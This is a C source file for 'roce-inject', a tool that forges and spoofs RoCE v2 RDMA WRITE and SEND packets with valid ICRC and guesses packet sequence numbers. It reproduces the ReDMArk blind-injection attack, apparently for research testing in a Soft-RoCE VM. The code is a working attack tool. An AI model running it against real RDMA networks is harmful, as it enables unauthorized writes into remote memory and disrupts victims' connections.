/* roce-inject: forge RoCE v2 RC request packets and send them into a network interface, for tests.
 *
 * It plays the blind attacker of ReDMArk (USENIX Security 2021) attack A1: a host on the RoCE
 * network that knows (or guesses) a live QP's number, memory key and address and injects RC
 * requests spoofing the QP's peer. A request whose PSN is the one the responder expects is
 * executed, and the victim's own request with that PSN is later dropped as a duplicate.
 *
 *   roce-inject --qpn N (--psn N | --psn-random | --psn-range FIRST:LAST) [options]
 *
 * Each frame is complete: Ethernet, IPv4, UDP to port 4791, BTH, RETH (RDMA WRITE only), the
 * payload and its pad, and a correct ICRC (computed as rdma_rxe checks it, see icrc()). Frames
 * go out through an AF_PACKET socket (needs CAP_NET_RAW), so they enter the peer of the given
 * interface as if they came from the wire: in the Soft-RoCE VM, sent into veth1 they arrive at
 * veth0, where rxe0 sits.
 *
 * --expect-psn only counts, after the fact, how many frames carried the PSN a responder that
 * expected it would have executed (each such hit advances it by one, as rxe does); it never
 * steers the PSNs chosen.
 *
 * Prints one JSON object on stdout. Exit status: 0 when every frame was sent, 1 when sending
 * failed, 2 on a usage error. */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define ETH_LEN	       14
#define IP4_LEN	       20
#define UDP_LEN	       8
#define BTH_LEN	       12
#define RETH_LEN       16
#define ICRC_LEN       4
#define ROCE_UDP_PORT  4791
#define PSN_MASK       0xffffffu
#define MAX_PAYLOAD    4096 /* rxe's largest path MTU: one packet per message */
#define MAX_FRAME      (ETH_LEN + IP4_LEN + UDP_LEN + BTH_LEN + RETH_LEN + MAX_PAYLOAD + 3 + ICRC_LEN)
#define BATCH	       32
#define MAX_RETRIES    10000 /* consecutive ENOBUFS before giving up */
#define OPC_SEND_ONLY  0x04  /* RC SEND Only */
#define OPC_WRITE_ONLY 0x0a  /* RC RDMA WRITE Only */

enum psn_mode { PSN_UNSET, PSN_FIXED, PSN_RANDOM, PSN_RANGE };

struct inject_cfg {
	const char *iface;
	const char *peer; /* its MAC is the default destination */
	uint8_t src_mac[6], dst_mac[6];
	int have_src_mac, have_dst_mac;
	struct in_addr src_ip, dst_ip;
	uint16_t sport;
	uint8_t opcode;
	uint32_t qpn;
	uint16_t pkey;
	int ack_req;
	uint64_t va;
	uint32_t rkey;
	int have_va, have_rkey;
	uint32_t len;
	const char *pattern;
	uint8_t hex[MAX_PAYLOAD]; /* --payload-hex: exact payload bytes, overriding the pattern */
	int have_hex;
	enum psn_mode mode;
	uint32_t psn, psn_last; /* fixed PSN, or the range's ends */
	uint64_t count;
	int have_count;
	double rate; /* frames per second, 0: as fast as possible */
	uint64_t seed;
	int have_seed;
	uint32_t expect_psn;
	int have_expect;
	int corrupt_icrc;
	int dump;
};

struct inject_stats {
	uint64_t sent;
	uint64_t retries; /* sends repeated after ENOBUFS */
	uint64_t hits;	  /* frames that carried the expected PSN (--expect-psn) */
	int64_t first_hit;
	uint32_t expect;
	double seconds;
};

static uint32_t crc_table[256];

static void usage(FILE *out)
{
	fprintf(
	    out,
	    "Usage: roce-inject --qpn N (--psn N | --psn-random | --psn-range FIRST:LAST) "
	    "[options]\n\n"
	    "Forge RoCE v2 RC requests (Ethernet/IPv4/UDP 4791/BTH/RETH/payload/ICRC) and send\n"
	    "them through an AF_PACKET socket, spoofing the QP's peer.\n\n"
	    "Options:\n"
	    "  -i, --iface IF          interface to send on (veth1)\n"
	    "      --peer IF           interface whose MAC is the default destination (veth0)\n"
	    "      --src-mac MAC       source MAC (default: the sending interface's)\n"
	    "      --dst-mac MAC       destination MAC (default: the peer interface's)\n"
	    "      --src-ip ADDR       spoofed source IPv4 address (192.0.2.1)\n"
	    "      --dst-ip ADDR       destination IPv4 address (192.0.2.1)\n"
	    "      --sport N           UDP source port (49152)\n"
	    "      --qpn N             destination QP number (required)\n"
	    "      --opcode OP         write (RDMA WRITE Only, default) or send (SEND Only)\n"
	    "      --psn N             every frame carries PSN N\n"
	    "      --psn-random        each frame carries a uniformly random 24-bit PSN\n"
	    "      --psn-range A:B     PSNs A, A+1, ... B (mod 2^24), then again from A\n"
	    "  -n, --count N           frames to send (1; with --psn-range, the range's size)\n"
	    "      --rkey N            RETH remote key (required for write)\n"
	    "      --addr N            RETH virtual address (required for write)\n"
	    "  -l, --len N             payload bytes, 0..%d (64)\n"
	    "      --pattern STR       payload: STR repeated (\"FORGED!!\")\n"
	    "      --payload-hex HEX   payload: exactly these bytes (sets the length)\n"
	    "      --rate N            frames per second (0: as fast as possible)\n"
	    "      --ack-req           set the BTH AckReq bit (the responder then ACKs a hit)\n"
	    "      --pkey N            BTH partition key (0xffff)\n"
	    "      --seed N            seed of --psn-random's generator (default: getrandom)\n"
	    "      --expect-psn N      count the frames that carry the PSN a responder expecting\n"
	    "                          N would execute (accounting only; never steers the PSNs)\n"
	    "      --corrupt-icrc      send a wrong ICRC (negative control: rxe drops the frame)\n"
	    "      --dump              print each frame in hex instead of sending it\n"
	    "  -h, --help              show this help\n\n"
	    "Numbers may be decimal or 0x-prefixed hex. Output: one JSON object on stdout.\n",
	    MAX_PAYLOAD);
}

static int parse_u64(const char *s, uint64_t max, uint64_t *out)
{
	char *end;
	unsigned long long v;

	if (!*s || *s == '-')
		return -EINVAL;
	errno = 0;
	v = strtoull(s, &end, 0);
	if (errno || *end || v > max)
		return -EINVAL;
	*out = v;
	return 0;
}

static int parse_u32(const char *s, uint32_t max, uint32_t *out)
{
	uint64_t v;
	int ret = parse_u64(s, max, &v);

	if (!ret)
		*out = (uint32_t)v;
	return ret;
}

static int parse_mac(const char *s, uint8_t mac[6])
{
	unsigned int b[6];
	char tail;
	int i;

	if (sscanf(s, "%x:%x:%x:%x:%x:%x%c", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5], &tail) != 6)
		return -EINVAL;
	for (i = 0; i < 6; i++) {
		if (b[i] > 0xff)
			return -EINVAL;
		mac[i] = (uint8_t)b[i];
	}
	return 0;
}

static int read_mac(const char *ifname, uint8_t mac[6])
{
	char path[128], line[64];
	FILE *f;
	int ret;

	snprintf(path, sizeof(path), "/sys/class/net/%s/address", ifname);
	f = fopen(path, "r");
	if (!f) {
		ret = -errno;
		fprintf(stderr, "roce-inject: cannot read the MAC of %s: %s\n", ifname,
			strerror(errno));
		return ret;
	}
	ret = fgets(line, sizeof(line), f) ? 0 : -EIO;
	fclose(f);
	line[strcspn(line, "\n")] = '\0';
	if (!ret)
		ret = parse_mac(line, mac);
	if (ret)
		fprintf(stderr, "roce-inject: %s: not a MAC address\n", path);
	return ret;
}

/* CRC-32 as the kernel's crc32_le(): reflected polynomial 0xedb88320, no inversion in or out. */
static void crc_init(void)
{
	uint32_t i, c;
	int k;

	for (i = 0; i < 256; i++) {
		c = i;
		for (k = 0; k < 8; k++)
			c = (c & 1) ? (c >> 1) ^ 0xedb88320u : c >> 1;
		crc_table[i] = c;
	}
}

static uint32_t crc32_le(uint32_t crc, const uint8_t *p, size_t len)
{
	while (len--)
		crc = crc_table[(crc ^ *p++) & 0xff] ^ (crc >> 8);
	return crc;
}

/* The invariant CRC of a RoCE v2 packet over IPv4, as rxe_icrc.c computes and checks it.
 * ip points at the IPv4 header, len counts the bytes from there up to the ICRC (headers,
 * payload and pad). The CRC starts from ~0 over 8 bytes of 0xff (the masked LRH of InfiniBand,
 * absent in RoCE v2: rxe folds them into its seed 0xdebb20e3), then covers the IPv4, UDP and
 * BTH headers with the fields that routers may change set to all ones (IPv4 TOS, TTL and
 * header checksum; UDP checksum; the BTH byte holding FECN/BECN and resv8a), then the rest
 * unmasked. The result is inverted and goes on the wire least significant byte first. */
static uint32_t icrc(const uint8_t *ip, size_t len)
{
	static const uint8_t masked_lrh[8] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
	uint8_t hdr[IP4_LEN + UDP_LEN + BTH_LEN];
	uint32_t crc;

	memcpy(hdr, ip, sizeof(hdr));
	hdr[1] = 0xff;		  /* IPv4 TOS (DSCP, ECN) */
	hdr[8] = 0xff;		  /* IPv4 TTL */
	hdr[10] = hdr[11] = 0xff; /* IPv4 header checksum */
	hdr[IP4_LEN + 6] = 0xff;  /* UDP checksum */
	hdr[IP4_LEN + 7] = 0xff;
	hdr[IP4_LEN + UDP_LEN + 4] = 0xff; /* BTH FECN, BECN, resv8a */
	crc = crc32_le(0xffffffffu, masked_lrh, sizeof(masked_lrh));
	crc = crc32_le(crc, hdr, sizeof(hdr));
	crc = crc32_le(crc, ip + sizeof(hdr), len - sizeof(hdr));
	return ~crc;
}

static uint16_t ip_checksum(const uint8_t *p, size_t len)
{
	uint32_t sum = 0;
	size_t i;

	for (i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put24(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 16);
	p[1] = (uint8_t)(v >> 8);
	p[2] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, (uint16_t)(v >> 16));
	put16(p + 2, (uint16_t)v);
}

static size_t frame_len(const struct inject_cfg *c)
{
	size_t reth = c->opcode == OPC_WRITE_ONLY ? RETH_LEN : 0;
	size_t pad = (4 - c->len % 4) % 4;

	return ETH_LEN + IP4_LEN + UDP_LEN + BTH_LEN + reth + c->len + pad + ICRC_LEN;
}

/* Build one frame into buf (frame_len() bytes) carrying psn; the IPv4 id varies per frame. */
static void frame_build(const struct inject_cfg *c, const uint8_t *payload, uint32_t psn,
			uint16_t ip_id, uint8_t *buf)
{
	size_t len = frame_len(c), reth = c->opcode == OPC_WRITE_ONLY ? RETH_LEN : 0;
	uint8_t pad = (uint8_t)((4 - c->len % 4) % 4);
	uint8_t *ip = buf + ETH_LEN, *udp = ip + IP4_LEN, *bth = udp + UDP_LEN;
	uint8_t *data = bth + BTH_LEN + reth;
	uint32_t crc;

	memset(buf, 0, len);
	memcpy(buf, c->dst_mac, 6);
	memcpy(buf + 6, c->src_mac, 6);
	put16(buf + 12, 0x0800);

	ip[0] = 0x45; /* version 4, 20-byte header; TOS 0 */
	put16(ip + 2, (uint16_t)(len - ETH_LEN));
	put16(ip + 4, ip_id);
	put16(ip + 6, 0x4000); /* don't fragment, as rxe sends */
	ip[8] = 64;
	ip[9] = IPPROTO_UDP;
	memcpy(ip + 12, &c->src_ip.s_addr, 4);
	memcpy(ip + 16, &c->dst_ip.s_addr, 4);
	put16(ip + 10, ip_checksum(ip, IP4_LEN));

	put16(udp, c->sport);
	put16(udp + 2, ROCE_UDP_PORT);
	put16(udp + 4, (uint16_t)(len - ETH_LEN - IP4_LEN));
	/* UDP checksum 0: none, as rxe sends over IPv4. */

	bth[0] = c->opcode;
	bth[1] = (uint8_t)(pad << 4); /* SE 0, MigReq 0, pad count, TVer 0 */
	put16(bth + 2, c->pkey);
	put24(bth + 5, c->qpn);
	bth[8] = c->ack_req ? 0x80 : 0;
	put24(bth + 9, psn & PSN_MASK);

	if (reth) {
		put32(bth + BTH_LEN, (uint32_t)(c->va >> 32));
		put32(bth + BTH_LEN + 4, (uint32_t)c->va);
		put32(bth + BTH_LEN + 8, c->rkey);
		put32(bth + BTH_LEN + 12, c->len);
	}
	memcpy(data, payload, c->len); /* the pad after it stays zero */

	crc = icrc(ip, (size_t)(data + c->len + pad - ip));
	if (c->corrupt_icrc)
		crc ^= 0x1;
	/* Least significant byte first: rxe stores the CRC register as it sits in memory. */
	data[c->len + pad] = (uint8_t)crc;
	data[c->len + pad + 1] = (uint8_t)(crc >> 8);
	data[c->len + pad + 2] = (uint8_t)(crc >> 16);
	data[c->len + pad + 3] = (uint8_t)(crc >> 24);
}

/* splitmix64: fast and plenty for guessing PSNs; the seed makes a run repeatable. */
static uint64_t next_random(uint64_t *state)
{
	uint64_t z = (*state += 0x9e3779b97f4a7c15ull);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
	return z ^ (z >> 31);
}

static uint32_t psn_for(const struct inject_cfg *c, uint64_t i, uint64_t *rng)
{
	switch (c->mode) {
	case PSN_RANDOM:
		return (uint32_t)(next_random(rng) >> 40);
	case PSN_RANGE:
		return (uint32_t)((c->psn + i % (((c->psn_last - c->psn) & PSN_MASK) + 1ull)) &
				  PSN_MASK);
	default:
		return c->psn;
	}
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void sleep_s(double s)
{
	struct timespec ts;

	if (s <= 0)
		return;
	ts.tv_sec = (time_t)s;
	ts.tv_nsec = (long)((s - (double)ts.tv_sec) * 1e9);
	while (nanosleep(&ts, &ts) && errno == EINTR)
		;
}

static int open_socket(const char *ifname, int *fd_out)
{
	struct sockaddr_ll sll = {.sll_family = AF_PACKET};
	int fd, ret;

	sll.sll_ifindex = (int)if_nametoindex(ifname);
	if (!sll.sll_ifindex) {
		ret = -errno;
		fprintf(stderr, "roce-inject: no interface %s: %s\n", ifname, strerror(errno));
		return ret;
	}
	/* Protocol 0: this socket only sends, it never queues received frames. */
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (fd < 0) {
		ret = -errno;
		fprintf(stderr, "roce-inject: AF_PACKET socket: %s (needs CAP_NET_RAW)\n",
			strerror(errno));
		return ret;
	}
	if (bind(fd, (struct sockaddr *)&sll, sizeof(sll))) {
		ret = -errno;
		fprintf(stderr, "roce-inject: bind to %s: %s\n", ifname, strerror(errno));
		close(fd);
		return ret;
	}
	*fd_out = fd;
	return 0;
}

static void account(const struct inject_cfg *c, struct inject_stats *st, uint64_t i, uint32_t psn)
{
	if (!c->have_expect || psn != st->expect)
		return;
	if (!st->hits)
		st->first_hit = (int64_t)i;
	st->hits++;
	st->expect = (st->expect + 1) & PSN_MASK;
}

static void dump_frame(const uint8_t *buf, size_t len)
{
	size_t i;

	for (i = 0; i < len; i++)
		printf("%02x", buf[i]);
	printf("\n");
}

/* Send a batch, repeating what the interface refused for lack of buffers. */
static int send_batch(int fd, struct mmsghdr *msgs, unsigned n, struct inject_stats *st)
{
	unsigned done = 0, refused = 0;
	int k;

	while (done < n) {
		k = sendmmsg(fd, msgs + done, n - done, 0);
		if (k < 0) {
			if (errno == EINTR)
				continue;
			if ((errno == ENOBUFS || errno == EAGAIN) && refused++ < MAX_RETRIES) {
				st->retries++;
				sleep_s(100e-6);
				continue;
			}
			fprintf(stderr, "roce-inject: send: %s\n", strerror(errno));
			return -errno;
		}
		refused = 0;
		done += (unsigned)k;
		st->sent += (uint64_t)k;
	}
	return 0;
}

static int run(const struct inject_cfg *c, struct inject_stats *st)
{
	static uint8_t frames[BATCH][MAX_FRAME];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	uint8_t payload[MAX_PAYLOAD];
	size_t plen = strlen(c->pattern), flen = frame_len(c);
	uint64_t rng = c->seed, i = 0;
	double t0;
	int fd = -1, ret = 0;
	uint32_t k;

	for (k = 0; k < c->len; k++)
		payload[k] = c->have_hex ? c->hex[k] : (uint8_t)c->pattern[k % plen];
	memset(msgs, 0, sizeof(msgs));
	for (k = 0; k < BATCH; k++) {
		iov[k].iov_base = frames[k];
		iov[k].iov_len = flen;
		msgs[k].msg_hdr.msg_iov = &iov[k];
		msgs[k].msg_hdr.msg_iovlen = 1;
	}
	if (!c->dump) {
		ret = open_socket(c->iface, &fd);
		if (ret)
			return ret;
	}
	t0 = now_s();
	while (i < c->count) {
		unsigned n = 0;

		while (n < BATCH && i + n < c->count) {
			uint32_t psn = psn_for(c, i + n, &rng);

			frame_build(c, payload, psn, (uint16_t)(i + n), frames[n]);
			account(c, st, i + n, psn);
			n++;
		}
		if (c->dump) {
			for (k = 0; k < n; k++)
				dump_frame(frames[k], flen);
			st->sent += n;
		} else {
			ret = send_batch(fd, msgs, n, st);
			if (ret)
				break;
		}
		i += n;
		if (c->rate > 0)
			sleep_s(t0 + (double)i / c->rate - now_s());
	}
	st->seconds = now_s() - t0;
	if (fd >= 0)
		close(fd);
	return ret;
}

static void report(const struct inject_cfg *c, const struct inject_stats *st, int ret)
{
	static const char *const modes[] = {"", "fixed", "random", "range"};

	printf("{\"ok\":%s,\"iface\":\"%s\",\"opcode\":\"%s\",\"psn_mode\":\"%s\","
	       "\"count\":%" PRIu64 ",\"sent\":%" PRIu64 ",\"retries\":%" PRIu64 ","
	       "\"frame_bytes\":%zu,\"seconds\":%.3f,\"pps\":%.0f",
	       ret ? "false" : "true", c->iface,
	       c->opcode == OPC_WRITE_ONLY ? "RDMA_WRITE_ONLY" : "SEND_ONLY", modes[c->mode],
	       c->count, st->sent, st->retries, frame_len(c), st->seconds,
	       st->seconds > 0 ? (double)st->sent / st->seconds : 0.0);
	if (c->mode == PSN_RANDOM)
		printf(",\"seed\":%" PRIu64, c->seed);
	if (c->have_expect)
		printf(",\"hits\":%" PRIu64 ",\"first_hit\":%" PRId64, st->hits, st->first_hit);
	if (c->corrupt_icrc)
		printf(",\"corrupt_icrc\":true");
	if (ret)
		printf(",\"error\":\"%s\"", strerror(-ret));
	printf("}\n");
}

static int set_mode(struct inject_cfg *c, enum psn_mode m)
{
	if (c->mode != PSN_UNSET && c->mode != m) {
		fprintf(stderr, "roce-inject: give one of --psn, --psn-random, --psn-range\n");
		return -EINVAL;
	}
	c->mode = m;
	return 0;
}

static int parse_range(struct inject_cfg *c, const char *arg)
{
	char first[32];
	const char *colon = strchr(arg, ':');

	if (!colon || (size_t)(colon - arg) >= sizeof(first))
		return -EINVAL;
	memcpy(first, arg, (size_t)(colon - arg));
	first[colon - arg] = '\0';
	if (parse_u32(first, PSN_MASK, &c->psn) || parse_u32(colon + 1, PSN_MASK, &c->psn_last))
		return -EINVAL;
	return set_mode(c, PSN_RANGE);
}

enum {
	OPT_PEER = 1000,
	OPT_SRC_MAC,
	OPT_DST_MAC,
	OPT_SRC_IP,
	OPT_DST_IP,
	OPT_SPORT,
	OPT_QPN,
	OPT_OPCODE,
	OPT_PSN,
	OPT_PSN_RANDOM,
	OPT_PSN_RANGE,
	OPT_RKEY,
	OPT_ADDR,
	OPT_PATTERN,
	OPT_PAYLOAD_HEX,
	OPT_RATE,
	OPT_ACK_REQ,
	OPT_PKEY,
	OPT_SEED,
	OPT_EXPECT,
	OPT_CORRUPT,
	OPT_DUMP,
};

static int parse_opt(struct inject_cfg *c, int opt, const char *arg, int *have_qpn)
{
	uint64_t v = 0;
	uint32_t u = 0;

	switch (opt) {
	case 'i':
		c->iface = arg;
		return 0;
	case OPT_PEER:
		c->peer = arg;
		return 0;
	case OPT_SRC_MAC:
		c->have_src_mac = 1;
		return parse_mac(arg, c->src_mac);
	case OPT_DST_MAC:
		c->have_dst_mac = 1;
		return parse_mac(arg, c->dst_mac);
	case OPT_SRC_IP:
		return inet_pton(AF_INET, arg, &c->src_ip) == 1 ? 0 : -EINVAL;
	case OPT_DST_IP:
		return inet_pton(AF_INET, arg, &c->dst_ip) == 1 ? 0 : -EINVAL;
	case OPT_SPORT:
		if (parse_u32(arg, 0xffff, &u))
			return -EINVAL;
		c->sport = (uint16_t)u;
		return 0;
	case OPT_QPN:
		*have_qpn = 1;
		return parse_u32(arg, PSN_MASK, &c->qpn);
	case OPT_OPCODE:
		if (strcmp(arg, "write") == 0)
			c->opcode = OPC_WRITE_ONLY;
		else if (strcmp(arg, "send") == 0)
			c->opcode = OPC_SEND_ONLY;
		else
			return -EINVAL;
		return 0;
	case OPT_PSN:
		if (parse_u32(arg, PSN_MASK, &c->psn))
			return -EINVAL;
		return set_mode(c, PSN_FIXED);
	case OPT_PSN_RANDOM:
		return set_mode(c, PSN_RANDOM);
	case OPT_PSN_RANGE:
		return parse_range(c, arg);
	case 'n':
		c->have_count = 1;
		return parse_u64(arg, UINT64_MAX, &c->count);
	case OPT_RKEY:
		c->have_rkey = 1;
		return parse_u32(arg, UINT32_MAX, &c->rkey);
	case OPT_ADDR:
		c->have_va = 1;
		return parse_u64(arg, UINT64_MAX, &c->va);
	case 'l':
		return parse_u32(arg, MAX_PAYLOAD, &c->len);
	case OPT_PATTERN:
		c->pattern = arg;
		return *arg ? 0 : -EINVAL;
	case OPT_PAYLOAD_HEX: {
		size_t n = strlen(arg), k;

		if (n == 0 || n % 2 || n / 2 > MAX_PAYLOAD)
			return -EINVAL;
		for (k = 0; k < n / 2; k++) {
			unsigned byte;

			if (sscanf(arg + 2 * k, "%2x", &byte) != 1 ||
			    !isxdigit((unsigned char)arg[2 * k]) ||
			    !isxdigit((unsigned char)arg[2 * k + 1]))
				return -EINVAL;
			c->hex[k] = (uint8_t)byte;
		}
		c->len = (uint32_t)(n / 2);
		c->have_hex = 1;
		return 0;
	}
	case OPT_RATE:
		if (parse_u64(arg, 100000000, &v))
			return -EINVAL;
		c->rate = (double)v;
		return 0;
	case OPT_ACK_REQ:
		c->ack_req = 1;
		return 0;
	case OPT_PKEY:
		if (parse_u32(arg, 0xffff, &u))
			return -EINVAL;
		c->pkey = (uint16_t)u;
		return 0;
	case OPT_SEED:
		c->have_seed = 1;
		return parse_u64(arg, UINT64_MAX, &c->seed);
	case OPT_EXPECT:
		c->have_expect = 1;
		return parse_u32(arg, PSN_MASK, &c->expect_psn);
	case OPT_CORRUPT:
		c->corrupt_icrc = 1;
		return 0;
	case OPT_DUMP:
		c->dump = 1;
		return 0;
	default:
		return -EINVAL;
	}
}

static int parse_args(struct inject_cfg *c, int argc, char **argv)
{
	static const struct option lo[] = {
	    {"iface", required_argument, NULL, 'i'},
	    {"peer", required_argument, NULL, OPT_PEER},
	    {"src-mac", required_argument, NULL, OPT_SRC_MAC},
	    {"dst-mac", required_argument, NULL, OPT_DST_MAC},
	    {"src-ip", required_argument, NULL, OPT_SRC_IP},
	    {"dst-ip", required_argument, NULL, OPT_DST_IP},
	    {"sport", required_argument, NULL, OPT_SPORT},
	    {"qpn", required_argument, NULL, OPT_QPN},
	    {"opcode", required_argument, NULL, OPT_OPCODE},
	    {"psn", required_argument, NULL, OPT_PSN},
	    {"psn-random", no_argument, NULL, OPT_PSN_RANDOM},
	    {"psn-range", required_argument, NULL, OPT_PSN_RANGE},
	    {"count", required_argument, NULL, 'n'},
	    {"rkey", required_argument, NULL, OPT_RKEY},
	    {"addr", required_argument, NULL, OPT_ADDR},
	    {"len", required_argument, NULL, 'l'},
	    {"pattern", required_argument, NULL, OPT_PATTERN},
	    {"payload-hex", required_argument, NULL, OPT_PAYLOAD_HEX},
	    {"rate", required_argument, NULL, OPT_RATE},
	    {"ack-req", no_argument, NULL, OPT_ACK_REQ},
	    {"pkey", required_argument, NULL, OPT_PKEY},
	    {"seed", required_argument, NULL, OPT_SEED},
	    {"expect-psn", required_argument, NULL, OPT_EXPECT},
	    {"corrupt-icrc", no_argument, NULL, OPT_CORRUPT},
	    {"dump", no_argument, NULL, OPT_DUMP},
	    {"help", no_argument, NULL, 'h'},
	    {0},
	};
	int opt, have_qpn = 0;

	while ((opt = getopt_long(argc, argv, "i:n:l:h", lo, NULL)) != -1) {
		if (opt == 'h') {
			usage(stdout);
			exit(0);
		}
		if (opt == '?')
			return -EINVAL;
		if (parse_opt(c, opt, optarg, &have_qpn)) {
			const struct option *o = lo;

			while (o->name && o->val != opt)
				o++;
			fprintf(stderr, "roce-inject: invalid --%s%s%s\n", o->name ? o->name : "?",
				optarg ? " " : "", optarg ? optarg : "");
			return -EINVAL;
		}
	}
	if (optind != argc) {
		fprintf(stderr, "roce-inject: unexpected argument %s\n", argv[optind]);
		return -EINVAL;
	}
	if (!have_qpn || c->mode == PSN_UNSET) {
		fprintf(stderr, "roce-inject: --qpn and one of --psn, --psn-random, --psn-range "
				"are required\n");
		return -EINVAL;
	}
	if (c->opcode == OPC_WRITE_ONLY && (!c->have_rkey || !c->have_va)) {
		fprintf(stderr, "roce-inject: an RDMA WRITE needs --rkey and --addr\n");
		return -EINVAL;
	}
	if (!c->have_count)
		c->count = c->mode == PSN_RANGE ? ((c->psn_last - c->psn) & PSN_MASK) + 1ull : 1;
	return 0;
}

int main(int argc, char **argv)
{
	struct inject_cfg c = {
	    .iface = "veth1",
	    .peer = "veth0",
	    .sport = 49152,
	    .opcode = OPC_WRITE_ONLY,
	    .pkey = 0xffff,
	    .len = 64,
	    .pattern = "FORGED!!",
	};
	struct inject_stats st = {.first_hit = -1};
	uint8_t probe[8];
	int ret;

	crc_init();
	memset(probe, 0xff, sizeof(probe));
	/* rxe seeds its CRC with the value of 8 bytes of 0xff: a broken table shows here. */
	if (crc32_le(0xffffffffu, probe, sizeof(probe)) != 0xdebb20e3u) {
		fprintf(stderr, "roce-inject: CRC-32 self-test failed\n");
		return 1;
	}
	inet_pton(AF_INET, "192.0.2.1", &c.src_ip);
	c.dst_ip = c.src_ip;
	if (parse_args(&c, argc, argv)) {
		usage(stderr);
		return 2;
	}
	if (!c.have_src_mac && read_mac(c.iface, c.src_mac))
		return 2;
	if (!c.have_dst_mac && read_mac(c.peer, c.dst_mac))
		return 2;
	if (c.mode == PSN_RANDOM && !c.have_seed &&
	    getrandom(&c.seed, sizeof(c.seed), 0) != (ssize_t)sizeof(c.seed)) {
		fprintf(stderr, "roce-inject: getrandom: %s\n", strerror(errno));
		return 1;
	}
	st.expect = c.expect_psn;
	ret = run(&c, &st);
	if (!c.dump)
		report(&c, &st, ret);
	return ret ? 1 : 0;
}
